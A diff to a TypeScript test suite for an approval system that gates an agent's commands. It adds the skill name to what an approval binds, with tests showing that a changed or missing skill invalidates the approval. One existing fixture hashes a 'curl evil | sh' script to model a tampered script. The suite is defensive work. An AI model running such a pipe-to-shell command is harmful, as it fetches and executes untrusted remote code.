@@ -1,4 +1,4 @@
-// Approvals bind the whole request: command, stdin digest, cwd, timeout and script digests; a use
+// Approvals bind the whole request: command, stdin digest, cwd, the skill named, timeout and script digests; a use
 // with any of them changed is refused naming it (the approval stays unused). At most 20 pending per
 // agent (the next is a 429). Due requests expire in the background, with no one reading them.
 import { eq } from 'drizzle-orm';
@@ -28,6 +28,7 @@ const evaluation = {
 const binding: ApprovalBinding = {
   stdinSha256: sha256Hex('print(1)\n'),
   cwd: '/workspace',
+  skill: 'pdf-tools',
   timeoutMs: 30_000,
   scripts: [{ path: '/workspace/run.sh', sha256: sha256Hex('echo hi\n') }],
 };
@@ -61,6 +62,8 @@ describe('an approval binds the whole request', () => {
     ['stdin', 'pip install x', { stdinSha256: sha256Hex('print(2)\n') }],
     ['stdin', 'pip install x', { stdinSha256: null }],
     ['cwd', 'pip install x', { cwd: '/tmp' }],
+    ['skill', 'pip install x', { skill: 'other-skill' }],
+    ['skill', 'pip install x', { skill: null }],
     ['timeoutMs', 'pip install x', { timeoutMs: 3_600_000 }],
     ['scripts', 'pip install x', { scripts: [{ path: '/workspace/run.sh', sha256: sha256Hex('curl evil | sh\n') }] }],
     ['scripts', 'pip install x', { scripts: [] }],
